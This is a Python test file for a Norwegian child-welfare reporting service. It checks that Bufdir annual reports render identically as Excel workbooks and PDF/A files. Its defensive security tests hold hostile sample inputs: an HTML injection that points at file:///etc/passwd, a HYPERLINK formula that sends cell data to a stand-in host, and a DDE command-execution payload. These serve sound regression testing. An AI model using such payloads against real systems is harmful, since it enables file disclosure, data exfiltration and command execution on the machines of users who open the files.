"""The report document: one content model, a print-ready workbook and a PDF/A-2a of the same
content, text of any length printed in full in both."""

from __future__ import annotations

import io
import itertools
import math
import re
import zipfile
from datetime import UTC, datetime
from decimal import Decimal
from pathlib import Path

import openpyxl
import pikepdf
import pypdf
import pytest

from bufdir_reporting.models import FieldDataType, FieldOutlierSetting, FieldValue, Organization, ReportRecord
from bufdir_reporting.resolvers import snapshots
from bufdir_reporting.resolvers.reporting import files, records
from bufdir_reporting.resolvers.reporting.content import local_time
from bufdir_reporting.resolvers.reporting.pdf import FONT_PT, FONTS, PADDING_PT, VALUE_WIDTHS, number_text, share_text
from bufdir_reporting.resolvers.reporting.renderers import ReportFormat
from bufdir_reporting.resolvers.reporting.texts import words
from bufdir_reporting.resolvers.reporting.xlsx_layout import COLUMN_KEYS, SHARE_FORMAT, pieces
from bufdir_reporting.resolvers.snapshots import manual_values, notes

from ...factories import FieldSpec, context_for, make_activity, make_organization, make_period, make_section

NBSP = "\u00a0"
FIELDS = [
    FieldSpec("antall_saker", {"kind": "count", "filters": {}, "temporal": "flow"}, True, "integer", label="Antall saker"),
    FieldSpec("antall_arsverk", None, True, "decimal", label="Antall årsverk"),
    FieldSpec("andel_fulgt_opp", None, False, "percent", label="Andel fulgt opp"),
    FieldSpec("har_internkontroll", None, False, "boolean", label="Har internkontroll"),
]
REMARK_FIELD = FieldSpec("merknader", None, False, "text", label="Merknader til rapporten")
VOCABULARY = (
    "barnevernet fulgte opp familien etter flyttingen og samarbeidet særskilt med skolen om tiltak for ungdommen året".split()
)
EXPLAINING = "økningen skyldes tre nye barn som flyttet til kommunen i løpet av våren".split()


def prose(length: int, *, paragraph_every: int = 120, vocabulary: list[str] = VOCABULARY) -> str:
    """Norwegian-looking text of exactly ``length`` characters; every word is numbered, so a
    word lost, doubled or broken in two shows."""
    text, number = "", 0
    while len(text) < length:
        separator = "\n\n" if number and number % paragraph_every == 0 else " "
        text += ("" if not text else separator) + f"{vocabulary[number % len(vocabulary)]}{number}"
        number += 1
    return text[:length].rstrip() + "x" * (length - len(text[:length].rstrip()))


@pytest.fixture
async def reported(app, settings):
    """A 2024 snapshot with its 2023 prior: cases went 2 -> 5 (+150 %, a warning: the field's
    absolute floor is set to 0 here, the default 5 would let 3 more pass), the staff count is
    required and missing (an error), a percentage and a yes/no entered by hand."""
    org = await make_organization(name="Barnevernet Test & Co", org_number="974778742")
    await make_period(year=2023)
    period = await make_period(year=2024)
    await make_section(fields=[*FIELDS, REMARK_FIELD])
    await FieldOutlierSetting.create(field_key="antall_saker", min_deviation=0)
    for year, count in ((2023, 2), (2024, 5)):
        for day in range(1, count + 1):
            await make_activity(org=org, occurred_at=datetime(year, 3, day, 10, tzinfo=UTC))
    ctx = context_for(settings, app, org.id, subject="kari.nordmann")
    snapshot = (await snapshots.trigger(ctx, organization_id=org.id, period_id=period.id, wait=True)).snapshot
    await manual_values.set_value(ctx, snapshot_id=snapshot.id, field_key="andel_fulgt_opp", value="72.5")
    await manual_values.set_value(ctx, snapshot_id=snapshot.id, field_key="har_internkontroll", value=True)
    return ctx, snapshot, period


async def test_the_content_says_everything_once_in_the_readers_terms(reported):
    ctx, snapshot, period = reported
    content = await records.content_of(ctx, snapshot=snapshot, period=period)
    assert content.language == "nb" and content.organization_number == "974 778 742"
    assert content.period_dates == "01.01.2024–31.12.2024"
    assert content.prior_period == "2023 (01.01.2023–31.12.2023)"
    assert content.status == "Utkast – ikke sendt inn" and content.generated_by == "kari.nordmann"
    assert content.version is None and content.history == () and content.dialogue == ()
    assert content.completeness == "3 av 5 felt utfylt, 1 påkrevde mangler"
    assert [(listed.label, listed.note.severity) for listed in content.missing_required] == [("Antall årsverk", "error")]
    rows = content.sections[0].rows
    assert [row.label for row in rows] == [
        "Antall saker",
        "Antall årsverk",
        "Andel fulgt opp",
        "Har internkontroll",
        "Merknader til rapporten",
    ]
    cases = rows[0]
    assert (cases.value, cases.prior, cases.change, cases.change_share) == (5, 2, 3, Decimal("1.5"))
    assert [note.severity for note in cases.notes] == ["warning"] and cases.remarks.startswith("Advarsel: ")
    assert rows[4].is_text and not rows[0].is_text
    assert {(listed.label, listed.note.severity) for listed in content.findings} == {
        ("Antall saker", "warning"),
        ("Antall årsverk", "error"),
    }


def test_times_are_norwegian_local_time_summer_and_winter():
    assert local_time(datetime(2026, 7, 1, 10, 0, tzinfo=UTC)) == "01.07.2026 kl. 12:00"
    assert local_time(datetime(2026, 1, 15, 10, 0, tzinfo=UTC)) == "15.01.2026 kl. 11:00"


def test_numbers_are_written_the_norwegian_way_in_the_pdf():
    assert number_text(Decimal(1234567), FieldDataType.INTEGER) == f"1{NBSP}234{NBSP}567"
    assert number_text(Decimal("14369.5"), FieldDataType.DECIMAL) == f"14{NBSP}369,50"
    assert number_text(Decimal("72.77"), FieldDataType.PERCENT) == f"72,8{NBSP}%"
    assert number_text(Decimal("-1.6"), FieldDataType.PERCENT, signed=True) == f"-1,6{NBSP}pp"
    assert share_text(Decimal("1.5")) == f"+150,0{NBSP}%"


def test_the_pdf_rounds_halves_away_from_zero_as_the_workbook_does():
    """Found by reading both files of one report: a change of -0.65 pp printed -0,6 pp in the PDF
    (Python rounds half to even) and -0,7 pp in the workbook (Excel rounds half away from zero)."""
    assert number_text(Decimal("-0.65"), FieldDataType.PERCENT, signed=True) == f"-0,7{NBSP}pp"
    assert number_text(Decimal("0.25"), FieldDataType.PERCENT) == f"0,3{NBSP}%"
    assert number_text(Decimal("2.125"), FieldDataType.DECIMAL, language="en") == "2.13"
    assert share_text(Decimal("-0.00125")) == f"-0,1{NBSP}%"


async def _file(ctx, snapshot, report_format: ReportFormat) -> tuple[ReportRecord, bytes]:
    record = await records.generate(ctx, snapshot_id=snapshot.id, report_type="annual_report", report_format=report_format)
    assert record.status == "completed", record.error
    _, path = await records.file_of(ctx, report_id=record.id)
    return record, Path(path).read_bytes()


async def test_the_workbook_prints_each_section_one_page_wide_with_formats_by_type(reported):
    ctx, snapshot, _ = reported
    record, data = await _file(ctx, snapshot, ReportFormat.XLSX)
    assert record.file_ref.endswith(".xlsx") and files.download_name(record).endswith(".xlsx")
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    front, section = workbook.worksheets
    front_text = "\n".join(str(cell.value) for row in front.iter_rows() for cell in row if cell.value is not None)
    for expected in ("974 778 742", "2023 (01.01.2023–31.12.2023)", "3 av 5 felt utfylt, 1 påkrevde mangler", "kari.nordmann"):
        assert expected in front_text
    assert re.search(r"Påkrevde felt som mangler \(1\)[\s\S]*Antall årsverk", front_text)
    assert re.search(r"Antall saker\nAdvarsel\nAntall saker endret \+150 % fra forrige periode", front_text)

    assert [cell.value for cell in section[3]] == [words()(key) for key in COLUMN_KEYS]
    cases, staff, share, control = (section[line] for line in range(4, 8))
    assert (cases[0].value, cases[1].value, cases[2].value, cases[3].value) == ("Antall saker", 5, 2, 3)
    assert cases[1].number_format == "#,##0" and cases[4].number_format == SHARE_FORMAT and cases[4].value == 1.5
    assert "Advarsel" in cases[6].value and cases[7].value == "antall_saker"  # notes beside the row, key last
    assert (staff[1].value, staff[5].value) == ("mangler", "Ja") and staff[6].value.startswith("Feil:")
    assert share[1].value == 72.5 and share[1].number_format == '0.0" %"'
    assert control[1].value == "Ja"
    assert section.freeze_panes == "B4" and section.print_title_rows == "$3:$3"
    assert section.print_area.endswith("!$A$1:$G$8"), "the technical key stays out of print"
    for sheet in (front, section):  # one orientation for the whole printout: the front printed portrait (outsider)
        setup = sheet.page_setup
        assert (setup.orientation, setup.paperSize, setup.fitToWidth, setup.fitToHeight) == ("landscape", 9, 1, 0), sheet
    assert section.sheet_properties.pageSetUpPr.fitToPage
    assert section.oddHeader.left.text == "Barnevernet Test && Co" and section.oddFooter.right.text == "Side &P av &N"


@pytest.mark.usefixtures("pdf_rendering")
@pytest.mark.parametrize("language", ["nb", "nn", "en"])
def test_each_heading_of_the_pdfs_values_table_fits_its_column_on_one_line(language):
    """The English "Change in %" (and "Previous period", "Forrige periode") broke over two lines
    (outsider, read off the rendered page): each heading, in the bold face the table prints it in,
    is narrower than its column less the cells' padding."""
    from fontTools.ttLib import TTFont  # type: ignore[import-untyped]  # (WeasyPrint's font reader)

    font = TTFont(FONTS / "DejaVuSans-Bold.ttf")
    glyphs, advances, em = font.getBestCmap(), font["hmtx"], font["head"].unitsPerEm
    said = words(language)
    too_wide = []
    for key, width in zip(COLUMN_KEYS, VALUE_WIDTHS, strict=False):  # the technical key is no column of the PDF
        heading = said(key)
        needed = sum(advances[glyphs[ord(c)]][0] for c in heading) / em * FONT_PT + 2 * PADDING_PT
        if needed > float(width.removesuffix("mm")) / 25.4 * 72:
            too_wide.append((heading, width))
    assert too_wide == []


async def test_the_pdf_has_the_same_content_in_the_same_order(reported):
    ctx, snapshot, _ = reported
    record, data = await _file(ctx, snapshot, ReportFormat.PDF)
    assert record.content_type == "application/pdf" and record.file_ref.endswith(".pdf") and data.startswith(b"%PDF")
    assert files.download_name(record).endswith(".pdf")
    pages = [page.extract_text() for page in pypdf.PdfReader(io.BytesIO(data)).pages]
    assert len(pages) == 2  # the front page and the one section, as the ReportLab rendition had
    assert "974 778 742" in pages[0] and "3 av 5 felt utfylt, 1 påkrevde mangler" in pages[0] and "Side 1 av 2" in pages[0]
    assert "Antall saker endret +150 % fra forrige periode" in pages[0]
    labels = ("Antall saker", "Antall årsverk", "Andel fulgt opp", "Har internkontroll", "Merknader til rapporten")
    found = [label for label in labels if label in pages[1]]
    assert sorted(found, key=pages[1].index) == list(labels)
    text = pages[1].replace(NBSP, " ")
    assert "+150,0 %" in text and "72,5 %" in text and "mangler" in text and "Side 2 av 2" in text

    _, workbook_data = await _file(ctx, snapshot, ReportFormat.XLSX)
    section = openpyxl.load_workbook(io.BytesIO(workbook_data)).worksheets[1]
    assert [section.cell(line, 1).value for line in range(4, 9)] == found, "both renditions list the same rows in order"


@pytest.mark.usefixtures("pdf_rendering")
async def test_a_change_is_the_difference_of_the_figures_printed_beside_it_in_both_renditions(reported):
    """39,34 % against 38,85 % print as 39,3 % and 38,9 %; their change printed +0,5 pp (0.49,
    from the stored values), which no reader makes of the figures beside it (#32 outsider)."""
    ctx, snapshot, period = reported
    await FieldValue.filter(snapshot_id=snapshot.id, field_key="andel_fulgt_opp").update(
        value=Decimal("39.34"), prior_value=Decimal("38.85")
    )
    content = await records.content_of(ctx, snapshot=snapshot, period=period)
    share = next(row for row in content.sections[0].rows if row.key == "andel_fulgt_opp")
    assert share.change == Decimal("0.4")
    _, pdf_data = await _file(ctx, snapshot, ReportFormat.PDF)
    text = pypdf.PdfReader(io.BytesIO(pdf_data)).pages[1].extract_text().replace(NBSP, " ")
    assert "39,3 %" in text and "38,9 %" in text and "+0,4 pp" in text and "+0,5 pp" not in text
    _, workbook_data = await _file(ctx, snapshot, ReportFormat.XLSX)
    sheet = openpyxl.load_workbook(io.BytesIO(workbook_data)).worksheets[1]
    line = next(row for row in sheet.iter_rows(min_row=4) if row[7].value == "andel_fulgt_opp")
    assert (line[1].value, line[2].value, line[3].value) == (39.34, 38.85, 0.4)


def _xmp(pdf: pikepdf.Pdf) -> str:
    return bytes(pdf.Root.Metadata.read_bytes()).decode()


def _structure_types(element: pikepdf.Object, found: list[str]) -> list[str]:
    """Each structure element's type, a header cell's with its scope (/TH/Column)."""
    if isinstance(element, pikepdf.Dictionary) and "/S" in element:
        scope = element.get("/A", pikepdf.Dictionary()).get("/Scope") if element.S == "/TH" else None
        found.append(f"{element.S}{scope or ''}")
    kids = element.get("/K") if isinstance(element, pikepdf.Dictionary) else None
    for kid in kids if isinstance(kids, pikepdf.Array) else [kids] if kids is not None else []:
        if isinstance(kid, pikepdf.Dictionary):
            _structure_types(kid, found)
    return found


def _fonts(pdf: pikepdf.Pdf) -> list[pikepdf.Dictionary]:
    fonts = []
    for page in pdf.pages:
        for font in (page.Resources.get("/Font") or {}).values():
            fonts += [font, *font.get("/DescendantFonts", [])]
    return fonts


def _outline_titles(pdf: pikepdf.Pdf) -> list[str]:
    with pdf.open_outline() as outline:
        return [item.title for item in outline.root]


@pytest.mark.one_database
@pytest.mark.usefixtures("pdf_rendering")
async def test_the_pdf_is_pdfa_2a_tagged_with_its_language_fonts_embedded_and_a_bookmark_per_section(reported):
    ctx, snapshot, _ = reported
    _, data = await _file(ctx, snapshot, ReportFormat.PDF)
    with pikepdf.open(io.BytesIO(data)) as pdf:
        xmp = _xmp(pdf)
        assert re.search(r'pdfaid:part(="|>)2', xmp) and re.search(r'pdfaid:conformance(="|>)A', xmp)
        assert "<rdf:li>nb</rdf:li>" in xmp and "dc:language" in xmp
        assert "Rapport til Bufdir – Barnevernet Test &amp; Co, 2024" in xmp  # dc:title: organisation and period
        assert "Utkast – ikke sendt inn" in xmp  # dc:description: the status
        assert str(pdf.Root.Lang) == "nb"
        marked: object = pdf.Root.MarkInfo.Marked
        assert marked is True
        types = _structure_types(pdf.Root.StructTreeRoot, [])
        assert {"/Document", "/H1", "/H2", "/Table", "/THead", "/TBody", "/TR", "/TH/Column", "/TH/Row", "/TD"} <= set(types)
        assert "/TH" not in types, "every header cell says whether it heads a column or a row"
        named = dict(zip(*[iter(pdf.Root.StructTreeRoot.IDTree.Names)] * 2, strict=True))
        assert named and all(element.S == "/TH" for element in named.values()), "the data cells' /Headers resolve"
        intent = pdf.Root.OutputIntents[0]
        assert intent.S == "/GTS_PDFA1" and intent.DestOutputProfile.N == 3  # an RGB ICC profile
        fonts = _fonts(pdf)
        assert fonts
        for font in fonts:
            if font.Subtype == "/Type0":
                continue  # its glyphs are in its descendant, checked too
            descriptor = font.FontDescriptor
            assert {"/FontFile", "/FontFile2", "/FontFile3"} & set(descriptor.keys()), f"{font.BaseFont} is not embedded"
            assert re.match(r"/[A-Z]{6}\+", str(font.BaseFont)), f"{font.BaseFont} is not a subset"
        front, section = _outline_titles(pdf)
        assert front == "Rapport til Bufdir" and section.startswith("Seksjon ")
        assert len(pdf.pages) == 2


async def test_the_workbook_says_what_it_is_in_its_properties(reported):
    ctx, snapshot, _ = reported
    _, data = await _file(ctx, snapshot, ReportFormat.XLSX)
    properties = openpyxl.load_workbook(io.BytesIO(data)).properties
    assert properties.title == "Rapport til Bufdir – Barnevernet Test & Co, 2024"
    assert properties.language == "nb" and properties.subject == "2024 (01.01.2024–31.12.2024)"
    assert properties.creator == "Barnevernet Test & Co" and properties.contentStatus == "Utkast – ikke sendt inn"
    assert "974 778 742" in properties.keywords and properties.identifier == snapshot.id


def test_long_text_is_cut_between_words_into_rows_that_each_print():
    text = prose(10_000)
    cut = pieces(text, 55)
    assert " ".join(cut).split() == text.split(), "every word, once, in order, none broken"
    assert len(cut) > 1 and all(len(piece) <= 12 * 63 for piece in cut)
    assert pieces("kort", 55) == ["kort"] and pieces("", 55) == [""]
    assert pieces("x" * 1000, 10) == ["x" * 132] * 7 + ["x" * 76], "a word longer than a row is broken, as the sheet would"


@pytest.mark.one_database
@pytest.mark.usefixtures("pdf_rendering")
async def test_a_10000_character_remark_and_a_long_explanation_print_in_full_in_both_renditions(reported):
    ctx, snapshot, _ = reported
    remark, explanation = prose(10_000), prose(4_000, paragraph_every=50, vocabulary=EXPLAINING)
    await manual_values.set_value(ctx, snapshot_id=snapshot.id, field_key="merknader", value=remark)
    await notes.explain(ctx, snapshot_id=snapshot.id, field_key="antall_saker", text=explanation)

    _, data = await _file(ctx, snapshot, ReportFormat.PDF)
    text = "\n".join(page.extract_text() for page in pypdf.PdfReader(io.BytesIO(data)).pages)
    for written in (remark, explanation):
        tokens = written.split()
        said = [token for token in text.split() if token in set(tokens)]  # without the page headers and footers between
        assert said == tokens, "the whole text, once, wrapped between words: no word lost, doubled or broken"
    remark_words = set(remark.split())
    remark_lines = [line for line in text.splitlines() if line.split() and set(line.split()) <= remark_words]
    assert sum(map(len, remark_lines)) / len(remark_lines) > 40, "the remark is laid out wide, not in a number column"

    _, workbook_data = await _file(ctx, snapshot, ReportFormat.XLSX)
    sheet = openpyxl.load_workbook(io.BytesIO(workbook_data)).worksheets[1]
    first = next(row[0].row for row in sheet.iter_rows() if row[0].value == "Merknader til rapporten")
    cases = next(row[0].row for row in sheet.iter_rows() if row[0].value == "Antall saker")
    merged = {str(cells) for cells in sheet.merged_cells.ranges}
    for top, column, written, width in ((first, 2, remark, 55), (cases, 7, explanation, 52)):
        below = itertools.takewhile(lambda line: sheet.cell(line, 1).value is None, range(top + 1, sheet.max_row + 1))
        cells = [sheet.cell(line, column) for line in (top, *below)]
        parts = [cell.value for cell in cells if cell.value]
        shown = " ".join(str(part) for part in parts)
        if column == 7:
            shown = re.split(r"\s+Advarsel:", shown.removeprefix("Forklaring: "))[0]
        assert shown.split() == written.split(), "the whole text, between words, in the rows of its field"
        for cell in cells[: len(parts)]:
            assert cell.alignment.wrap_text and cell.data_type == "s"
            height = sheet.row_dimensions[cell.row].height or 15
            needed = math.ceil(len(str(cell.value)) / (width * 1.2))  # lines at Calibri's width of Norwegian prose
            assert 15 * needed <= height <= 409, f"row {cell.row} prints its text: {needed} lines in {height} points"
            if column == 2:
                assert f"B{cell.row}:E{cell.row}" in merged, "a text value spans the number columns"


@pytest.mark.one_database
@pytest.mark.usefixtures("pdf_rendering")
async def test_markup_in_names_and_values_is_printed_as_written(reported, settings, app):
    """An organisation's name stands in the page header (a CSS string inside <style>) and values in
    the body: neither can end the stylesheet, add markup or fetch anything."""
    ctx, snapshot, _ = reported
    name = 'Test</style><img src="file:///etc/passwd">"\\ AS'
    await Organization.filter(id=snapshot.organization_id).update(name=name)
    await manual_values.set_value(ctx, snapshot_id=snapshot.id, field_key="merknader", value="<b>fet</b> & <script>x</script>")
    _, data = await _file(context_for(settings, app, snapshot.organization_id), snapshot, ReportFormat.PDF)
    pages = [page.extract_text() for page in pypdf.PdfReader(io.BytesIO(data)).pages]
    assert all(name in page for page in pages), "the header on every page says the name as written"
    assert "<b>fet</b> & <script>x</script>" in pages[1]
    with pikepdf.open(io.BytesIO(data)) as pdf:
        drawn = [xobject.Subtype for page in pdf.pages for xobject in (page.Resources.get("/XObject") or {}).values()]
        assert "/Image" not in drawn, "no image was fetched"


@pytest.mark.usefixtures("pdf_rendering")
def test_the_pdf_reads_its_own_fonts_and_no_other_file():
    from bufdir_reporting.resolvers.reporting.pdf import FONTS, _fonts_only

    fetch = _fonts_only()
    fetch((FONTS / "DejaVuSans.ttf").as_uri()).close()
    for elsewhere in ("file:///etc/passwd", f"{FONTS.as_uri()}/../pdf.py", "http://127.0.0.1:9/x.png"):
        with pytest.raises(ValueError):
            fetch(elsewhere)


INJECTED = '=HYPERLINK("http://example.invalid/?"&B5,"Se vedlegg")'


async def test_text_an_organisation_wrote_is_text_in_the_workbook_never_a_formula(app, settings):
    """openpyxl writes a str starting with '=' as a formula: an organisation's name, a text
    value or an explanation would be live in the workbook Bufdir's case officers open. Each is
    a text cell, shown exactly as written (no apostrophe), and the workbook has no formula."""
    from bufdir_reporting.resolvers.snapshots import notes

    org = await make_organization(name=INJECTED)
    period = await make_period(year=2024)
    texts = [FieldSpec(f"tekst_{n}", None, False, "text", label=f"Tekst {n}") for n in range(4)]
    await make_section(fields=texts)
    ctx = context_for(settings, app, org.id, subject="kari.nordmann")
    snapshot = (await snapshots.trigger(ctx, organization_id=org.id, period_id=period.id, wait=True)).snapshot
    written = [INJECTED, "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3", "#N/A"]
    for spec, text in zip(texts, written, strict=True):
        await manual_values.set_value(ctx, snapshot_id=snapshot.id, field_key=spec.key, value=text)
    await notes.explain(ctx, snapshot_id=snapshot.id, field_key="tekst_0", text="=1+1")
    _, data = await _file(ctx, snapshot, ReportFormat.XLSX)

    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [archive.read(name) for name in archive.namelist() if name.startswith("xl/worksheets/")]
    assert sheets and not any(b"<f>" in xml or b"<f " in xml for xml in sheets), "no cell is a formula"
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    front, section = workbook.worksheets[:2]
    named = [cell for row in front.iter_rows() for cell in row if isinstance(cell.value, str) and INJECTED in cell.value]
    assert named and all(cell.data_type == "s" for cell in named), "the organisation's name is text"
    values = [section.cell(line, 2) for line in range(4, 8)]
    assert [(cell.value, cell.data_type) for cell in values] == [(text, "s") for text in written]
    assert section.cell(4, 7).value.startswith("Forklaring: =1+1")


async def test_control_characters_an_organisation_typed_do_not_fail_its_workbook(app, settings):
    """openpyxl refuses a cell with a control character (IllegalCharacterError, "cannot be used
    in worksheets"): an explanation or text value with a vertical tab or an ESC pasted from
    another program failed the whole workbook (attacker's review). They are left out of the
    workbook's cells as the PDF leaves them out; line breaks and tabs stay."""
    org = await make_organization()
    period = await make_period(year=2024)
    await make_section(fields=[FieldSpec("tekst_0", None, False, "text", label="Tekst 0")])
    ctx = context_for(settings, app, org.id, subject="kari.nordmann")
    snapshot = (await snapshots.trigger(ctx, organization_id=org.id, period_id=period.id, wait=True)).snapshot
    await manual_values.set_value(ctx, snapshot_id=snapshot.id, field_key="tekst_0", value="a\x0bb\x1b[31mc\x7f")
    await notes.explain(ctx, snapshot_id=snapshot.id, field_key="tekst_0", text="linje 1\nlinje\t2\x01\x08")
    _, data = await _file(ctx, snapshot, ReportFormat.XLSX)

    section = openpyxl.load_workbook(io.BytesIO(data)).worksheets[1]
    assert section.cell(4, 2).value == "ab[31mc"
    assert section.cell(4, 7).value.startswith("Forklaring: linje 1\nlinje\t2")
    assert "\x01" not in section.cell(4, 7).value
